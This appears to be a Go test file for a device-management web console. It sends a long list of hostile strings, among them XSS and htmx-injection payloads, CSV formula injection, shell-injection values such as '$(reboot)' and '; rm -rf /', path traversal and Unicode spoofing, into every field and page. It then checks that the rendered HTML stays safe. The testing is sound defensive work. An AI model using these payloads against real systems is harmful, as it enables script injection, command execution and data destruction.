package console_test

import (
	"context"
	"fmt"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"golang.org/x/net/html"

	"weft/coord/console"
)

// payloads: what a device, a browser or a person may send
// as a name.
var payloads = []string{
	`<script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `</script><script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<body onload=alert(1)>`, `<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=javascript:alert(1)>`,
	`<embed src=//evil.example>`, `<link rel=stylesheet href=//evil.example>`, `<style>@import '//evil.example'</style>`, `<base href=//evil.example/>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><input name=password>`, `<a href=javascript:alert(1)>x</a>`,
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, `java&#x09;script:alert(1)`, `data:text/html,<script>alert(1)</script>`, `vbscript:x`,
	`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, `" autofocus onfocus="alert(1)`, "` onmouseover=`alert(1)", `x onclick=alert(1)`,
	`" hx-get="//evil.example" hx-trigger="load`, `" hx-on:click="alert(1)`, `<div hx-get=/devices hx-trigger=load>`, `<hx-partial hx-target=body>x</hx-partial>`,
	`" style="position:fixed;inset:0`, `expression(alert(1))`, `{{.}}`, `{{define "layout"}}x{{end}}`, `${alert(1)}`, `#{7*7}`, `%3Cscript%3Ealert(1)%3C/script%3E`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `<!--<script>alert(1)</script>-->`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<template><script>alert(1)</script></template>`,
	"\u202egnp.exe", "a\u202eb\u202cc", "\u2066x\u2069", "\u200fabc", "admin\u200b", "\ufeffadmin", "a\u2028b\u2029c", "tag\U000e0041\U000e0042",
	"\x00null", "\x1b[31mred\x1b[0m", "line\r\nSet-Cookie: x=y", "\xff\xfe bad utf-8", "\xed\xa0\x80", "z" + strings.Repeat("\u0335", 200), strings.Repeat("a", 5000), strings.Repeat("😀", 300),
	`=cmd|' /C calc'!A0`, `+SUM(1)`, `-1+1`, `@SUM(1)`, "a\"\nProxyCommand x", `$(reboot)`, "`reboot`", `; rm -rf /`, `../../etc/passwd`, `a'b"c`, ``, ` `,
}

// TestHostileStrings puts every payload everywhere and reads what came out as
// a browser does.
func TestHostileStrings(t *testing.T) {
	s := newSite(t)
	b := s.browser().enter()
	for i, p := range payloads {
		s.fake.Put(console.EventJoined, console.Device{
			ID: fmt.Sprintf("%032x", 0xbad00+i), Name: p, FQDN: p, Hostname: p + "x", OS: p, Software: p, Relay: p, Addr: p, User: p, Tags: []string{p, "ok"},
			IPv4: netip.AddrFrom4([4]byte{100, 64, 9, byte(i)}), Online: i%2 == 0, Joined: s.Now(), LastSeen: s.Now(), KeyID: "k-all",
		})
		s.fake.PutKey(console.Key{ID: fmt.Sprint("k", i), Note: p, Tags: []string{p}, User: p, Created: s.Now(), Expires: s.Now().Add(time.Hour)})
		req := b.request("GET", "/sign-in", nil)
		if !strings.ContainsAny(p, "\x00\r\n\x1b") {
			req.Header.Set("User-Agent", p)
		}
		s.fake.CreateSession(context.Background(), console.Session{ID: console.HashToken(p), UserID: "u1", Agent: p, Created: s.Now(), Seen: s.Now()})
	}
	s.fake.PutKey(console.Key{ID: "k-all", Note: "all", Reusable: true, Created: s.Now(), Expires: s.Now().Add(time.Hour)})
	s.fake.Net.ServerURLs = payloads[:10]

	var names console.DNS
	for i, p := range payloads {
		names.Records = append(names.Records, console.DNSRecord{ID: fmt.Sprint("r", i), Name: p, Type: p, Value: p})
		names.Routes = append(names.Routes, console.DNSRoute{Suffix: p, Nameservers: []string{p}})
		names.Aliases = append(names.Aliases, console.DNSAlias{Name: p, Device: p, Until: s.Now()})
	}
	names.Options = map[string]string{"portal-url": payloads[0], "rebinding-allowed": payloads[1]}
	s.fake.SetNames(names)

	pages := []string{"/dns", "/devices", "/devices?from=50", "/keys", "/account", "/keys/k-all/join"}
	for i, p := range payloads {
		pages = append(pages, fmt.Sprintf("/devices/%032x", 0xbad00+i), fmt.Sprintf("/keys/k%d/join", i),
			"/dns?name="+url.QueryEscape(p)+"&type="+url.QueryEscape(p)+"&from="+url.QueryEscape(p), "/devices?q="+url.QueryEscape("nothing "+p), "/devices?done="+url.QueryEscape(p))
	}
	for _, at := range pages {
		a := b.get(at).want(t, 200)
		checkMarkup(t, at, a.body)
	}
	anonymous := s.browser()
	for i, p := range payloads {
		if i%3 == 0 { // each costs one argon2id
			s.advance(time.Minute)
			a := anonymous.post("/sign-in", "name", p, "password", "x", "next", p)
			checkMarkup(t, "/sign-in", a.body)
		}
		checkMarkup(t, "/welcome", anonymous.get("/welcome?link="+url.QueryEscape(p)).want(t, 410).body)
		checkMarkup(t, "/sign-in", anonymous.get("/sign-in?next="+url.QueryEscape(p)).want(t, 200).body)
		checkMarkup(t, "404", b.get("/"+url.PathEscape(p)+"/x").body)
		id := fmt.Sprintf("%032x", 0xbad00+i)
		if a := b.post("/devices/"+id+"/rename", "name", p); a.StatusCode == 422 {
			checkMarkup(t, "rename", a.body)
		}
		checkMarkup(t, "new key", b.post("/keys", "kind", "device", "tags", p+" $", "note", p, "life", "1h").want(t, 422).body)
	}
}

// checkMarkup fails for anything in a page that only a payload can have put
// there.
func checkMarkup(t *testing.T, at, body string) {
	t.Helper()
	if !utf8.ValidString(body) {
		t.Errorf("%s: not UTF-8", at)
	}
	for _, r := range body {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029') {
			t.Errorf("%s: contains %U", at, r)
			return
		}
	}
	doc, err := html.Parse(strings.NewReader(body))
	if err != nil {
		t.Fatalf("%s: %v", at, err)
	}
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "iframe", "object", "embed", "base", "style", "template", "hx-partial", "img", "math", "frame", "noscript":
			t.Errorf("%s: <%s>", at, n.Data)
		}
		for _, a := range n.Attr {
			v := strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(a.Key, "on"), strings.HasPrefix(a.Key, "hx-on"), a.Key == "style", a.Key == "srcdoc", a.Key == "http-equiv":
				t.Errorf("%s: <%s %s=%q>", at, n.Data, a.Key, a.Val)
			case a.Key == "src" || a.Key == "href" || a.Key == "action" || a.Key == "hx-get" || a.Key == "hx-post" || a.Key == "hx-sse:connect" || a.Key == "formaction":
				if !strings.HasPrefix(v, "/") && !strings.HasPrefix(v, "#") || strings.HasPrefix(v, "//") {
					t.Errorf("%s: <%s %s=%q>", at, n.Data, a.Key, a.Val)
				}
			}
			if n.Data == "script" && a.Key == "src" && !strings.HasPrefix(a.Val, "/static/") {
				t.Errorf("%s: script from %q", at, a.Val)
			}
			if a.Key == "data-copy" && strings.ContainsAny(a.Val, "`$;\n") {
				t.Errorf("%s: command to copy %q", at, a.Val)
			}
		}
		if n.Data == "script" && n.FirstChild != nil {
			t.Errorf("%s: inline script %q", at, n.FirstChild.Data)
		}
	}
}

func TestClean(t *testing.T) {
	for in, want := range map[string]string{
		"kitchen-pi":                       "kitchen-pi",
		"Küche 厨房 😀":                       "Küche 厨房 😀",
		"a\u202eb":                         `a\u202eb`,
		"a\u200bb":                         `a\u200bb`,
		"a\x00\x1b\r\n":                    `a\u0000\u001b\u000d\u000a`,
		"\xff":                             "�",
		"�":                                "�",
		"a\u00a0b":                         `a\u00a0b`,
		"e\u0301":                          "e\u0301",
		"z" + strings.Repeat("\u0335", 50): "z" + strings.Repeat("\u0335", 3),
		strings.Repeat("a", 121):           strings.Repeat("a", 120) + "…",
	} {
		if got := console.Clean(in); got != want {
			t.Errorf("clean(%q) = %q, want %q", in, got, want)
		}
	}
}

func FuzzClean(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := console.Clean(in)
		if !utf8.ValidString(out) || utf8.RuneCountInString(out) > 120*10+1 {
			t.Errorf("clean(%q) = %q", in, out)
		}
		for _, r := range out {
			if r != ' ' && !unicode.IsGraphic(r) || unicode.Is(unicode.Cf, r) {
				t.Errorf("clean(%q) holds %U", in, r)
			}
		}
	})
}

func FuzzLocalPath(f *testing.F) {
	for _, p := range []string{"/", "/devices?q=a", "//evil.example", "/\\evil", "https://evil", "javascript:x", "/\t/evil", "/%2f/evil", "/@evil", "/devices#x"} {
		f.Add(p)
	}
	base, _ := url.Parse("https://console.example/sign-in")
	f.Fuzz(func(t *testing.T, in string) {
		out := console.LocalPath(in)
		if out == "" {
			return
		}
		u, err := url.Parse(out)
		if err != nil {
			t.Fatalf("localPath(%q) = %q: %v", in, out, err)
		}
		if to := base.ResolveReference(u); to.Host != base.Host || to.Scheme != base.Scheme || out[0] != '/' || len(out) > 1 && (out[1] == '/' || out[1] == '\\') {
			t.Errorf("localPath(%q) leads to %s", in, to)
		}
	})
}
